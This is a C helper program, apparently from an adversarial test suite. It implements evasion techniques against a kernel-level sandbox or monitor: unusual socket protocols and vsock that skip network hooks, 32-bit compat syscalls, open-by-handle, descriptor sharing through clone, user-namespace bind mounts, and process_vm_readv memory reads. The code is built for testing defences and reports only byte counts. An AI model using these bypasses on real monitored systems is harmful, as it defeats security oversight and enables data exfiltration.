/*
 * adv_evasion SUBCOMMAND ARGS...
 *
 * The ways around the guards an independent attack review found (tests/adversarial/
 * evasion_test.cpp), one per sub-command. A read prints "read=N" (bytes read, never the bytes
 * themselves), a send "sent=N"; a refused step prints "STEP errno=E". Exit 0 when the attack ran
 * (whatever it got), 2 on bad usage, 3 when the kernel lacks what the attack needs.
 *
 *   udplite ADDR PORT            a UDP-Lite datagram (IPPROTO_UDPLITE): no sendmsg hook runs for it
 *   sctp ADDR PORT               an SCTP socket and connect (when the kernel has SCTP)
 *   vsock                        an AF_VSOCK socket (to the hypervisor, past every inet hook)
 *   compat-open PATH             open PATH with the 32-bit syscall (int $0x80), then read it natively
 *   by-handle PATH               name_to_handle_at(PATH) then open_by_handle_at: an open with no path
 *   clone-files PATH             clone(CLONE_FILES) a sibling sharing the descriptor table; the parent
 *                                opens PATH, the sibling reads the descriptor after the parent is gone
 *   bind-mount PATH TARGET       unshare a user and mount namespace, bind-mount PATH onto TARGET
 *                                (an empty file the caller made), then read TARGET
 *   vm-read PID ADDR LEN         process_vm_readv LEN bytes at ADDR (hex) of PID
 *   vm-read-child                fork a child holding a marker in memory, process_vm_readv it
 *
 * Build: cc -O2 -Wall -Wextra -Werror -pthread -o adv_evasion adv_evasion.c
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef IPPROTO_UDPLITE
#define IPPROTO_UDPLITE 136
#endif
#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif

static int read_fd(int fd)
{
	char buf[4096];
	ssize_t n, total = 0;

	while ((n = read(fd, buf, sizeof(buf))) > 0)
		total += n;
	printf("read=%zd\n", total);
	fflush(stdout);
	return 0;
}

static int inet_send(int proto, int type, const char *addr, int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
	int fd = socket(AF_INET, type, proto);

	if (fd < 0) {
		printf("socket errno=%d\n", errno);
		return errno == EPROTONOSUPPORT || errno == ESOCKTNOSUPPORT ? 3 : 0;
	}
	inet_pton(AF_INET, addr, &a.sin_addr);
	if (connect(fd, (struct sockaddr *)&a, sizeof(a)) != 0) {
		printf("connect errno=%d\n", errno);
		return 0;
	}
	printf("sent=%zd\n", send(fd, "exfil", 5, 0));
	return 0;
}

/* open(2) through the i386 table: eax=5, ebx=path (below 4 GiB), ecx=flags. */
static long compat_open(const char *path)
{
	char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long ret;

	if (low == MAP_FAILED)
		return -ENOMEM;
	strncpy(low, path, 4095);
	int32_t r32;

	/* the compat entry zeroes r8-r11 on the way back */
	__asm__ volatile("int $0x80"
			 : "=a"(r32)
			 : "a"(5), "b"((uint32_t)(uintptr_t)low), "c"(0), "d"(0)
			 : "memory", "r8", "r9", "r10", "r11");
	ret = r32;
	return ret;
}

static int clone_files(const char *path)
{
	int sync[2];
	pid_t pid;
	char c;

	if (pipe(sync) != 0)
		return 3;
	pid = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, NULL, NULL, NULL, NULL);
	if (pid < 0) {
		printf("clone errno=%d\n", errno);
		return 0;
	}
	if (pid == 0) {
		/* the sibling: wait for the parent to open, then read descriptor 10 */
		if (read(sync[0], &c, 1) != 1)
			c = 0;
		usleep(200000);
		if (fcntl(10, F_GETFD) < 0) {
			printf("sibling errno=%d\n", errno);
			_exit(0);
		}
		lseek(10, 0, SEEK_SET);
		printf("sibling ");
		read_fd(10);
		_exit(0);
	}
	{
		int fd = open(path, O_RDONLY);

		if (fd >= 0 && fd != 10) {
			dup2(fd, 10);
			close(fd);
		}
		if (write(sync[1], "x", 1) != 1)
			return 0;
		waitpid(pid, NULL, 0);
	}
	return 0;
}

static int bind_mount(const char *path, const char *target)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
		printf("unshare errno=%d\n", errno);
		return 0;
	}
	if (mount(path, target, NULL, MS_BIND, NULL) != 0) {
		printf("mount errno=%d\n", errno);
		return 0;
	}
	{
		int fd = open(target, O_RDONLY);

		if (fd < 0) {
			printf("open errno=%d\n", errno);
			return 0;
		}
		return read_fd(fd);
	}
}

static int vm_read(pid_t pid, uintptr_t addr, size_t len)
{
	char buf[4096];
	struct iovec local = { buf, len < sizeof(buf) ? len : sizeof(buf) };
	struct iovec remote = { (void *)addr, local.iov_len };
	ssize_t n = process_vm_readv(pid, &local, 1, &remote, 1, 0);

	if (n < 0)
		printf("process_vm_readv errno=%d\n", errno);
	else
		printf("read=%zd\n", n);
	return 0;
}

static int vm_read_child(void)
{
	static char marker[64] = "VMREAD-MARKER";
	int sync[2];
	pid_t pid;
	char c;

	if (pipe(sync) != 0)
		return 3;
	pid = fork();
	if (pid == 0) {
		close(sync[1]);
		if (read(sync[0], &c, 1) < 0)
			_exit(1);
		_exit(0);
	}
	close(sync[0]);
	vm_read(pid, (uintptr_t)marker, sizeof(marker));
	close(sync[1]);
	waitpid(pid, NULL, 0);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2)
		return 2;
	if (!strcmp(argv[1], "udplite") && argc == 4)
		return inet_send(IPPROTO_UDPLITE, SOCK_DGRAM, argv[2], atoi(argv[3]));
	if (!strcmp(argv[1], "sctp") && argc == 4)
		return inet_send(132 /* IPPROTO_SCTP */, SOCK_STREAM, argv[2], atoi(argv[3]));
	if (!strcmp(argv[1], "vsock")) {
		int fd = socket(AF_VSOCK, SOCK_STREAM, 0);

		if (fd < 0) {
			printf("socket errno=%d\n", errno);
			return errno == EAFNOSUPPORT ? 3 : 0;
		}
		printf("socket=ok\n");
		return 0;
	}
	if (!strcmp(argv[1], "compat-open") && argc == 3) {
		long fd = compat_open(argv[2]);

		if (fd < 0) {
			printf("open errno=%ld\n", -fd);
			return fd == -ENOSYS ? 3 : 0;
		}
		return read_fd((int)fd);
	}
	if (!strcmp(argv[1], "by-handle") && argc == 3) {
		struct file_handle *h = malloc(sizeof(*h) + MAX_HANDLE_SZ);
		int mount_id, fd;

		h->handle_bytes = MAX_HANDLE_SZ;
		if (name_to_handle_at(AT_FDCWD, argv[2], h, &mount_id, 0) != 0) {
			printf("name_to_handle_at errno=%d\n", errno);
			return 0;
		}
		fd = open_by_handle_at(AT_FDCWD, h, O_RDONLY);
		if (fd < 0) {
			printf("open_by_handle_at errno=%d\n", errno);
			return 0;
		}
		return read_fd(fd);
	}
	if (!strcmp(argv[1], "clone-files") && argc == 3)
		return clone_files(argv[2]);
	if (!strcmp(argv[1], "bind-mount") && argc == 4)
		return bind_mount(argv[2], argv[3]);
	if (!strcmp(argv[1], "vm-read") && argc == 5)
		return vm_read(atoi(argv[2]), strtoull(argv[3], NULL, 16), strtoul(argv[4], NULL, 10));
	if (!strcmp(argv[1], "vm-read-child"))
		return vm_read_child();
	return 2;
}
